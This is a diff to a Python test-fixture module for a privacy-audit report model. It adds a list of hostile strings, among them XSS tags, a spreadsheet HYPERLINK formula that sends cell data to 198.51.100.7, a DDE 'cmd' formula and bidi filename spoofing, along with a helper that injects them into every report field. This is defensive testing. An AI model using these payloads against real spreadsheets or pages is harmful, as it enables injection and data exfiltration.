@@ -10,6 +10,7 @@ from auditor.model import Category, EntryState, Severity, Span, SpanType, Tier
 from auditor.report.model import (
     AccountLine,
     Attestation,
+    Audience,
     CycleLine,
     DeletionLine,
     Detail,
@@ -25,7 +26,21 @@ from auditor.report.model import (
 )
 
 NOW = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
-SPAN_TYPES = tuple(SpanType)
+HOSTILE = (
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    '=HYPERLINK("http://198.51.100.7/"&A1)',
+    " \t@SUM(1+1)*cmd|' /C calc'!A0",
+    "\x1b[2J\x1b]0;owned\x07\x9b31m red\x00",
+    "\u202egnp.exe\u2066 hidden\u200b\ufeff",
+    "| a | b |\n|---|---|\n\n# heading\n\n```\ncode\n```\n    indented",
+    "[click](javascript:alert(1)) ![x](http://198.51.100.7/p.png) <http://198.51.100.7> `tick` \\",
+    "{{ 7*7 }} {% include 'etc' %} ]]> --> </style></table>",
+    "sha256:" + "0" * 64,
+    '\r\n"quoted","more"\r\n',
+    "\ud800 lone \udfff",
+    "www.example.invalid @someone #tag ~~gone~~ 1. one\n- two\n> three\n===",
+)
+"""Text that tries to be more than text, in every format."""
 
 POSTS = (
     ("phi/name", "A patient's name", Category.PHI, Severity.CRITICAL, Tier.LIKELY_PHI, Disposition.DELETE),
@@ -149,8 +164,6 @@ def deletion(number: int, state: EntryState) -> DeletionLine:
 def full_report(findings: tuple[FindingLine, ...] | None = None) -> Report:
     """A whole report as the owner's vault would give it, before any redaction."""
     lines = tuple(finding(n) for n in range(1, len(POSTS) + 1)) if findings is None else findings
-    from auditor.report.model import Audience
-
     return Report(
         audience=Audience.SELF,
         cycle="2026-Q4",
@@ -212,6 +225,40 @@ def full_report(findings: tuple[FindingLine, ...] | None = None) -> Report:
             log_head="b" * 64,
             is_log_intact=True,
         ),
+    )
+
+
+def poisoned(text: str) -> Report:
+    """The full report with `text` wherever something from outside may stand."""
+    base = full_report()
+    poison = replace(
+        detail(1, text),
+        handle=text,
+        item_id=text,
+        parent_text=text,
+        url=text,
+        media=(text,),
+        reason=text,
+        remedy=text,
+        citations=(text,),
+        decision_reason=text,
+    )
+    return replace(
+        base,
+        owner=OwnerLine(text, text, (text,)),
+        scope=replace(
+            base.scope,
+            accounts=tuple(replace(a, platform=text, handle=text) for a in base.scope.accounts),
+        ),
+        findings=tuple(replace(f, platform=text, detail=poison) for f in base.findings),
+        deletions=tuple(
+            replace(d, platform=text, evidence=replace(d.evidence, handle=text, item_id=text, url=text))
+            for d in base.deletions
+            if d.evidence
+        ),
+        attestation=Attestation(text, text, NOW),
+        is_cycle_closed=True,
+        proof=replace(base.proof, holds=(HoldLine("7f3a90c1", True, text, NOW),)) if base.proof else None,
     )
 
 
